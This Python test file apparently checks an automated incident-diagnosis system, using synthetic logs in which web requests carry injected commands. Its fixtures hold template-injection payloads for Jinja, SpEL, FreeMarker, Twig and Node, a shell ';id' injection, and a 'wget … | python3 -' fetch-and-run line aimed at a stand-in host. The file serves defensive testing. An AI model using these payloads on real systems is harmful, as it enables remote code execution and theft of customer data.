"""Commands that requests carry: what tells that they were run, and what follows though nobody ran them."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import SHOP, WELL, alert, errors
from tests.diagnosis.rules.tiny import at, pod, postgres, snapshot, timed, workload
from tuheg_ir.diagnosis.model import Log, Snapshot

THIEF, DROP = "203.0.113.77", "198.51.100.23"
JINJA = (
    f'[INFO] web {THIEF} "POST /preview HTTP/1.1" 200 ua="python-requests/2.31.0" '
    "note=\"{{ cycler.__init__.__globals__['os'].popen('%s').read() }}\""
)
SPEL = (
    f'{THIEF} - - "GET /greet?name=%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27{{}}%27%29%7D'
    ' HTTP/1.1" 200 812'
)
FREEMARKER = (
    f'{{"method":"POST","path":"/mail/render","remote":"{THIEF}","status":200,'
    "\"body\":\"${'freemarker.template.utility.Execute'?new()('id')}\"}"
)
TWIG = f'{THIEF} - - "GET /card?t=%7B%7B%5B%27id%27%5D%7Cfilter%28%27system%27%29%7D%7D HTTP/1.1" 200 94'
SHELL = f'{THIEF} - - "GET /ping?host=127.0.0.1%3Bid HTTP/1.1" 200 81'
SSTI_NODE = f"{THIEF} POST /t HTTP/1.1 status=200 body=\"<%= require('child_process').execSync('id') %>\""
FETCH = JINJA % f"wget -q {DROP}/u -O- | python3 -"
ID = "uid=33(www-data) gid=33(www-data) groups=33(www-data)"
SENT = f"u: part 000 -> {DROP}:443 671088640 bytes"
COPY = "LOG:  statement: COPY (SELECT * FROM customers c JOIN cards k USING (customer_id)) TO STDOUT"
SOME = "LOG:  statement: COPY (SELECT * FROM orders WHERE day = '2026-03-04') TO STDOUT"
JOBS = next(each["status"]["podIP"] for each in workload("jobs") if each["kind"] == "Pod")
"""The address of a pod of another program here."""
RESTARTS = ("restart_workload", "rollback_workload", "restart_connection_pool", "scale_workload")


def site(
    *told: tuple[float, str],
    dumps: str = "",
    by: str = "",
    flow: str = "",
    prefix: str = "[88121] user=web,db=shop,client={address} ",
    name: str = "shop",
    joins: str = "",
    command: Sequence[str] = (),
    **more: Any,
) -> Snapshot:
    """Return a site, what its first pod tells with and without a time, and the logs of its database and of the network.

    A line of no time stands where its age puts it. by: the workload whose pod asks the database, if not the site.
    """
    runs: dict[str, Any] = {"command": list(command)} if command else {}
    objects, other = workload(name, env={"DB_HOST": "postgres"}, **runs), workload("jobs", env={"DB_HOST": "postgres"})
    pods = {each["metadata"]["name"]: each for each in (*objects, *other) if each["kind"] == "Pod"}
    address = pods[pod(by or name)]["status"]["podIP"]
    first = pods[pod(name)]["status"]["podIP"]
    lines = (line if line.startswith("u") else f"{at(age)} {line}" for age, line in sorted(told, reverse=True))
    sql = [(f"{at(700)} {joins.format(address=address)}")] if joins else []
    sql += [f"{at(600)} {prefix.format(address=address)}{dumps}"] if dumps else []
    return snapshot(
        objects,
        other,
        workload("egress"),
        postgres(),
        logs=[
            Log(pod(name), name, tuple(lines)),
            *([Log("postgres-0", "postgres", tuple(sql))] if sql else []),
            *([timed(pod("egress"), (580, flow.format(address=first)), of="egress")] if flow else []),
        ],
        **{"figures": [WELL], **more},
    )


START = (3000, "INFO ready")
LISTS = '198.51.100.7 - - "GET /items?fields=name%sid&page=2 HTTP/1.1" 200 811 "-" "python-requests/2.31.0"'
SCANS = '203.0.113.77 - - "GET /p{}?x=%3B{} HTTP/1.1" 200 812'
OWN = ((1500, "curl: (28) Operation timed out"), (1480, "tar: Removing leading `/' from member names"))
POST = JINJA % f"curl http://{DROP}/a"
FAILS = f"curl: (28) Failed to connect to {DROP} port 80 after 5001 ms"
CHAT = '{"method":"POST","path":"/messages","remote":"198.51.100.9","status":200,"body":"run `id | curl -F f=@- ...`"}'
BRINGS = '198.51.100.9 - - "POST /t?src=import+os%3Bos.system(%27id%27) HTTP/1.1" 200 12'


def may_be_a_test(what: str, world: Snapshot) -> Holds:
    """Return that a person has to judge whether the owners tried it: the pods are kept as they are until then."""
    return Holds(
        f"it may be the owners' own test that {what}",
        world,
        (SHOP, "security_incident", "page_human"),
        excludes=no(*RESTARTS, at=SHOP),
        harmful=(*RESTARTS, "isolate_workload"),
    )


HOLDS = [
    *(
        Holds(
            f"a command that a request carried prints what it found: {what}",
            site(START, (900, request), (899, ID)),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=SHOP),
            harmful=RESTARTS,
        )
        for what, request in (
            ("a template of Python", JINJA % "id;env"),
            ("a template of Java", SPEL.format("id")),
            ("a template of Java, in a log of fields", FREEMARKER),
            ("a template of PHP", TWIG),
            ("a template of JavaScript", SSTI_NODE),
            ("a shell's own word", SHELL),
        )
    ),
    *(
        Holds(
            f"a program is called by commands, and {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=SHOP),
        )
        for what, world in (
            (
                "two tools of a shell complain",
                site(START, (900, FETCH), (899, "sh: 1: crontab: not found"), (898, "sh: 1: nmap: not found")),
            ),
            ("sends whole tables where one told it to", site(START, (900, FETCH), (500, SENT), dumps=COPY)),
            (
                "the network tells where they go, and the database of a session by its number",
                site(
                    START,
                    (900, FETCH),
                    dumps=COPY,
                    prefix="[88121] ",
                    joins="[88121] LOG:  connection received: host={address} port=50122",
                    flow=f"{{address}}:40122 -> {DROP}:443 tcp FORWARDED bytes=671088640",
                ),
            ),
            (
                "a proxy passes on what MySQL's own tool dumps, in the form of a dump",
                site(
                    START,
                    (900, FETCH),
                    dumps="SELECT /*!40001 SQL_NO_CACHE */ * FROM `customer`",
                    flow=f"{{address}} TCP_TUNNEL/200 67108864 CONNECT {DROP}:443 -",
                ),
            ),
            (
                "sends away, and an alert tells of it",
                site(
                    START, (900, FETCH), (500, SENT), alerts=[alert("UnusualEgress", pod=pod("shop"))], figures=[WELL]
                ),
            ),
        )
    ),
    Holds(
        "who dumps the tables of a database makes those slow that ask it as well",
        site(
            START,
            (900, JINJA % "id"),
            (899, ID),
            dumps=COPY,
            figures=[WELL, errors("jobs")],
        ),
        (SHOP, "security_incident", "isolate_workload"),
        alone=True,
    ),
    *(
        may_be_a_test(f"a command was run: {what}", world)
        for what, world in (
            (
                "who sends it says so",
                site(START, (900, (JINJA % "id").replace("python-requests/2.31.0", "acme-pentest/7")), (899, ID)),
            ),
            (
                "a pod of the house sends it",
                site(START, (900, (JINJA % "id").replace(THIEF, JOBS)), (899, ID)),
            ),
            (
                "users may send code there",
                site(START, (900, f'{THIEF} - - "POST /t?code=os.system(%27id%27) HTTP/1.1" 200 12'), (899, ID)),
            ),
        )
    ),
]
DOES_NOT_HOLD = [
    DoesNotHold(f"requests carry commands, but {what}", world)
    for what, world in (
        ("all get a page and nothing follows", site(START, (900, JINJA % "id"), (890, TWIG), (880, SHELL))),
        (
            "they were turned away, and a start prints who it runs as",
            site(START, (900, SHELL.replace("200 81", "404 153")), (899, ID)),
        ),
        ("a firewall refused them", site(START, (900, FETCH.replace('" 200', '" 403')), (500, SENT), dumps=COPY)),
        ("the program prints as much at each start", site((3001, ID), START, (900, SHELL), (899, ID))),
        ("it is printed long after", site(START, (900, SHELL), (300, "INFO next"), (299, ID))),
        (
            "the log repeats what was asked, with what a scanner hopes for",
            site(START, (900, SHELL), (899, f"WARN rule 932160 matched ';id' curl {ID} `curl {DROP}`")),
        ),
        (
            "the program's own script misses a tool since it runs",
            site(
                *((3000 - 300 * n, f"sh: 1: {tool}: not found") for n in range(8) for tool in ("curl", "ps")),
                (900, SHELL),
            ),
        ),
        ("one tool complains", site(START, (900, SHELL), (899, "sh: 1: curl: not found"))),
        ("an own export copies some rows", site(START, (900, SHELL), (899, "ok"), dumps=SOME)),
        ("a backup copies all tables", site(START, (900, JINJA % "id"), dumps=COPY, by="jobs")),
        ("a job of its own copies all tables", site(START, (900, JINJA % "id"), dumps=COPY)),
        (
            "it looks at links for its users",
            site(START, (900, JINJA % f"curl http://{DROP}/a"), (899, f"INFO preview of link -> {DROP}:80 done")),
        ),
        (
            "it has called that place before as well",
            site((2000, SENT), (900, FETCH), (500, SENT), dumps=SOME),
        ),
        ("it is made to run what users send", site(START, (900, SHELL), (899, ID), name="ci-runner")),
    )
]
DOES_NOT_HOLD += [
    DoesNotHold(f"requests speak of commands, but {what}", world)
    for what, world in (
        *(
            (
                f"they name columns, all day: {mark}",
                site(*((3000 - 10 * n, LISTS % mark) for n in range(290)), *OWN),
            )
            for mark in ("|", "%7C", "%3B", ",-size%7C")
        ),
        ("one names a column, and a process tells who it runs as", site(START, (900, LISTS % "%3B"), (899, ID))),
        (
            "one is a sentence",
            site(START, (900, f'{THIEF} - - "GET /q?t=tea%3B+cat+and+dog+%3Bid+card HTTP/1.1" 200 9'), (899, ID)),
        ),
        (
            "a scanner sends them for long, and a script of its own meets two troubles meanwhile",
            site(START, *((1800 - 5 * n, SCANS.format(n, "id")) for n in range(200)), *OWN),
        ),
        (
            "a scanner sends them for long, and each start prints who it runs as",
            site(START, *((1800 - 5 * n, SCANS.format(n, "id")) for n in range(200)), (1500, ID)),
        ),
        (
            "a scanner sends one, of which neither tool comes that complains just then",
            site(START, (1501, SCANS.format(1, "id")), *OWN),
        ),
        ("the preview of a link in one fails", site(START, (900, POST), (895, FAILS), name="board")),
        (
            "the preview of a link in one fails first, and not again",
            site(START, (900, POST), (895, "curl: (28) Operation timed out"), (890, f"preview -> {DROP}:80 ok")),
        ),
        (
            "it looks at a link for its users, and copies its tables as it did before",
            site(START, (650, POST), (649, f"see -> {DROP}:80 ok"), dumps=COPY, joins="[7] client={address} " + COPY),
        ),
        *(
            (f"it is made to run its users' code: {name}", site(START, (900, BRINGS), (899, ID), name=name))
            for name in ("judge", "jupyterhub", "n8n", "airflow", "code-sandbox", "rundeck", "notebooks", "buildkit")
        ),
        (
            "users tell each other what they print",
            site(
                START,
                (900, CHAT),
                (885, 'INFO ws message user=bob text="uid=1000(bob) gid=1000(bob) groups=1000(bob)"'),
            ),
        ),
        ("it tells whose a file is", site(START, (900, SHELL), (899, "INFO chown /data/7 uid=1000 gid=1000 ok"))),
    )
]
DOES_NOT_HOLD += [
    DoesNotHold(f"nobody sent a command, and {what}", world)
    for what, world in (
        ("an admin looks around in a shell", site(START, (899, ID), dumps=COPY)),
        ("the site copies its tables away by itself", site(START, (500, SENT), dumps=COPY)),
        ("somebody tries whether templates count", site(START, (900, JINJA.replace("%s", "")[:90] + '{{7*7}}"'))),
    )
]
